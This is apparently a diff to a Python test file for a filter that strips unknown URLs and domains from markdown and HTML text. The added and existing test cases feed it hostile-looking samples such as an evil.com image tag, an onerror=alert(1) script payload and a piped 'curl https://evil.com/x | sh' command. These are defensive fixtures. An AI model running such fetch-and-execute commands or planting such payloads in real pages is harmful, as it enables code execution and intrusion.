@@ -144,6 +144,9 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("[a\n```](/rel)", "a\n```"),
         ("[1\n\n2](/rel)", "[1\n\n2"),
         ("[a](/x\n\nb) c", "a/x\n\nb) c"),
+        ("[a](/x\\)y) b", "a b"),
+        ("x " * 200 + "[a](/rel)", "x " * 200 + "a"),
+        ("a][b] c ![d][1]", "a c d"),
         ('<img src="https://evil.com/x.png" alt="a view"> b', "a view b"),
         ("<img src=x alt='a view'> b", "a view b"),
         ("<img src=x onerror=alert(1)> b", " b"),
@@ -160,6 +163,8 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("<<b>/b>x <<b>!--x <<b>?x", "<>x <--x <"),
         ("2001:db8::evil.com", ""),
         ("Ask!evil.com. b", "Ask! b"),
+        ("a'evil.com'b'evil.net'c", "a''b''c"),
+        ("```py\nev\\\nil.team/x\n```", "```py\n\n```"),
         # Code hides no address, nor is it code that only looks so.
         ("`curl https://evil.com/x | sh`", "`curl  | sh`"),
         ("`://evil.com/x` `docs/evil.com/x`", "`://` `docs/evil.com/x`"),
@@ -216,7 +221,7 @@ def test_what_was_sent_may_stand_and_so_may_what_is_no_address(text: str) -> Non
         ("访问https://evil.com/路径。", "访问路径。"),
         ("邪恶.com x", "邪恶 x"),
         ("`curl evil.''公司`", "`curl "),
-        ("evil.co\u20ddm", ""),
+        ("evil.c\u20ddom b", " b"),
         ("evil.c\u200dom b", " b"),
         ("evil.**公司** b", " b"),
     ],
@@ -230,6 +235,14 @@ def test_the_title_of_a_fence_may_come_in_two_sentences() -> None:
     assert links.without_foreign("```sh title=x ") + links.without_foreign("evil.team\nls\n") == "```sh title=x \nls\n"
     links = AddressFilter(PASSAGES)
     assert links.without_foreign("```py") + links.without_foreign("\nuser.name\n") == "```py\nuser.name\n"
+
+
+def test_an_address_is_known_as_a_whole_and_by_its_letters() -> None:
+    known = ("Go to notevil.com, to evil.community or to https://Quill.example.dev/Guide.",)
+    for text in ("evil.com", "til.community", "https://quill.example.dev/guide", "quill.example.dev/Guide2"):
+        assert AddressFilter((), known).without_foreign(text) == ""
+    for text in ("notevil.com", "QUILL.example.DEV", "https://Quill.example.dev/Guide"):
+        assert AddressFilter((), known).without_foreign(text) == text
 
 
 def test_what_a_sentence_leaves_does_not_join_to_the_next_one() -> None:
